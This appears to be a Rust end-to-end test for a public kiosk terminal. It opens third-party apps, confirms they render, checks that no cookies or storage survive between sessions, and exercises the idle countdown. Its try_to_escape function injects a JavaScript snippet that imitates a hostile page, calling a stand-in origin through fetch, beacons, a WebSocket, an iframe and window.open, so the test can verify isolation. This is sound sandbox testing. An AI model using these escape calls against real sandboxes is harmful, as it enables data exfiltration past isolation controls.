//! Apps of others, opened by a citizen: they work, they stay in, and nothing of them remains.

use std::time::Duration;

use super::{Chain, rating};
use crate::demo::site;
use crate::harness::probe::View;
use crate::harness::wait;

const SOON: Duration = Duration::from_secs(30);

pub(super) async fn hold(chain: &mut Chain<'_>) -> anyhow::Result<()> {
    let stranger = site::stranger().await?;
    for (at, app) in chain.stage.apps.clone().iter().enumerate() {
        chain.terminal.open_app(app.name).await?;
        let page = wait::until("the app to work", SOON, async || {
            let look = format!("({}) && [location.origin, document.title]", app.ready);
            let seen = chain.terminal.evaluate(View::App, &look).await?;
            Ok(seen.is_array().then_some(seen))
        })
        .await?;
        painted(chain).await?;
        chain.picture(&format!("terminal-5-app-{}", at + 1)).await?;
        try_to_escape(chain, &stranger.address).await?;
        chain.terminal.close_app("返回首页").await?;
        chain.report.step("hosting", &format!("{} works at {page}, tried to escape, closed", app.name));
    }
    let requests = stranger.requests();
    anyhow::ensure!(requests == 0, "{requests} requests reached an origin that no app may reach");
    chain.report.step("allowed origins", "0 requests of the apps reached a strange origin");
    nothing_remains(chain).await?;
    countdown(chain).await
}

/// What the page holds has been drawn once, and a frame has followed.
async fn painted(chain: &Chain<'_>) -> anyhow::Result<()> {
    let drawn = "window.drawn ?? (window.drawn = false, \
        requestAnimationFrame(() => requestAnimationFrame(() => (window.drawn = true))), false)";
    wait::until("the page to be drawn", SOON, async || {
        Ok((chain.terminal.evaluate(View::App, drawn).await? == true).then_some(()))
    })
    .await
}

/// What a hostile page would try, in each app.
async fn try_to_escape(chain: &Chain<'_>, stranger: &str) -> anyhow::Result<()> {
    let script = format!(
        "(() => {{ const at = '{stranger}'; fetch(at + '/fetch').catch(() => 0); new Image().src = at + '/image';
        try {{ navigator.sendBeacon(at + '/beacon', 'x') }} catch {{}}
        try {{ new WebSocket(at.replace('http', 'ws') + '/socket') }} catch {{}}
        const frame = document.createElement('iframe'); frame.src = at + '/frame'; document.body.append(frame);
        try {{ window.open(at + '/window') }} catch {{}}
        document.cookie = 'canary=1'; try {{ localStorage.canary = '1' }} catch {{}} return 1 }})()"
    );
    chain.terminal.evaluate(View::App, &script).await?;
    // A request that is let through is there at once on loopback; a later navigation proves the page lives.
    let alive = chain.terminal.evaluate(View::App, "1 + 1").await?;
    anyhow::ensure!(alive == 2, "the app's page is gone");
    Ok(())
}

async fn nothing_remains(chain: &mut Chain<'_>) -> anyhow::Result<()> {
    let app = chain.stage.apps[0].clone();
    chain.terminal.open_app(app.name).await?;
    let left = wait::until("the app's page", SOON, async || {
        let seen = chain
            .terminal
            .evaluate(View::App, "document.readyState === 'complete' ? [document.cookie, localStorage.canary ?? ''].join('') : null")
            .await?;
        Ok(seen.as_str().map(str::to_owned))
    })
    .await?;
    anyhow::ensure!(left.is_empty(), "the next citizen finds {left}");
    chain.report.step("wiped", "the next session finds no cookie and no storage of the one before");
    Ok(())
}

/// The app of [`nothing_remains`] is still open: let the idle limit run out to its warning, then end.
async fn countdown(chain: &mut Chain<'_>) -> anyhow::Result<()> {
    let warned = chain.terminal.wait_text(View::Bar, "继续办理", Duration::from_secs(120)).await?;
    chain.picture("terminal-6-countdown").await?;
    chain.terminal.touch(View::Bar, "继续办理").await?;
    wait::until("the countdown to be gone", SOON, async || {
        let seen = chain.terminal.probe().await?.text(View::Bar).await?;
        Ok((!seen.contains("继续办理")).then_some(()))
    })
    .await?;
    chain.end_session().await?;
    // At once: the question goes away by itself.
    rating::hold(chain).await?;
    let line = warned.lines().find(|line| line.contains('秒')).unwrap_or("countdown");
    chain
        .report
        .step("idle limit", &format!("“{}”, one touch extended it, the end button ended it", line.trim()));
    chain.wait_sessions().await?;
    chain.report.step("use", "the console shows the session with its apps and duration, nothing personal");
    Ok(())
}
